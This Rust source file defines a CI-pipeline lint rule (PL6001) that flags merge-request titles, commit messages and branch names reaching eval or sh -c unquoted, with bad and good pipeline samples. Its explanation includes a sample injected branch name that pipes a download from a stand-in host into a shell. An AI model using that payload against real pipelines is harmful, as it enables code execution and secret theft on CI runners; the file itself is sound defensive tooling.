//! PL6001 untrusted-input: Text an outsider controls reaches the shell as code or unquoted.

use crate::JobCx;
use plumb_diagnostics::Diagnostic;

declare_rule! {
    code: PL6001,
    summary: r####"Text an outsider controls reaches the shell as code or unquoted."####,
    explanation: r####"Anyone who can open a merge request or push a branch chooses the values of `CI_MERGE_REQUEST_TITLE`, `CI_MERGE_REQUEST_DESCRIPTION`, `CI_MERGE_REQUEST_SOURCE_BRANCH_NAME`, `CI_COMMIT_MESSAGE`, `CI_COMMIT_TITLE`, `CI_COMMIT_DESCRIPTION`, `CI_COMMIT_REF_NAME`, `CI_COMMIT_BRANCH`, `CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME`, `CI_COMMIT_AUTHOR` and `CI_COMMIT_TAG_MESSAGE`. Handed to `eval` or to `sh -c`/`bash -c` in a string, any of them runs as code: a branch may be named `x;curl${IFS}evil|sh`. The free-text ones (titles, descriptions, messages, authors) are also reported when expanded unquoted in a command's arguments, where the shell splits them into several arguments and expands `*`; branch names cannot hold spaces or glob characters, so unquoted they are not reported. They are followed through the variables a job's `env` or script copies them into (`M="$CI_COMMIT_MESSAGE"`; `unset`, `read` or another assignment ends that), into `eval`, `trap`, the command string of `sh -c`/`su -c`, a pipe or here-doc into a shell, and shell code in single quotes or a quoted here-doc that such a shell runs; `${X@Q}`, `${X:+word}` and `$(printf '%q' "$X")` are safe. Quote the expansion (`"$CI_COMMIT_MESSAGE"`) and never build code from it."####,
    bad: r####"pipeline p {
  stage s { job j { image = "busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91", run = ["eval \"echo $CI_COMMIT_MESSAGE\""] } } }"####,
    good: r####"pipeline p {
  stage s { job j { image = "busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91", run = ["echo \"$CI_COMMIT_MESSAGE\""] } } }"####,
    job: check_job,
}

fn check_job(cx: &JobCx, out: &mut Vec<Diagnostic>) {
    out.extend(crate::supply::untrusted_input(cx).into_iter().map(|hit| {
        hit.into_diagnostic(
            &RULE,
            "quote the expansion (`\"$VAR\"`) and pass it as data, never as code (`eval`, `sh -c`)",
        )
    }));
}
